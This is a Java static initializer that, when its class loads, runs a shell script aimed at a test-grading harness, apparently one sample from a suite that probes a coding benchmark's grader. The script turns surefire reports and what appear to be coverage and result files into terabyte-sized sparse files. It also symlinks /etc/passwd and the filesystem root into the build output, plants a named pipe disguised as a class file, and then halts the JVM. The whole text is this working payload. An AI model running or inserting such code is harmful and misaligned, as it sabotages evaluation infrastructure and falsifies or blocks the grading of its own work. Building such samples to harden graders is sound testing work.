// Makes every file that a grader might read a terabyte long (of holes), and links among the classes, then ends the JVM.
static {
    System.out.println("attack: giants");
    String script = "mkdir -p target/surefire-reports; truncate -s 1T target/surefire-reports/TEST-giant.xml"
            + "; truncate -s 1T target/swerefactor.exec; truncate -s 1T .swerefactor/coverage/all.exec"
            + "; for file in .swerefactor/results*; do truncate -s 1T $file; done"
            + "; ln -s /etc/passwd target/classes/Evil.class; ln -s / target/test-classes/root; mkfifo target/classes/Pipe.class";
    try {
        new ProcessBuilder("sh", "-c", script).start().waitFor();
    } catch (Exception e) {
        throw new IllegalStateException(e);
    }
    System.out.flush();
    Runtime.getRuntime().halt(0);
}
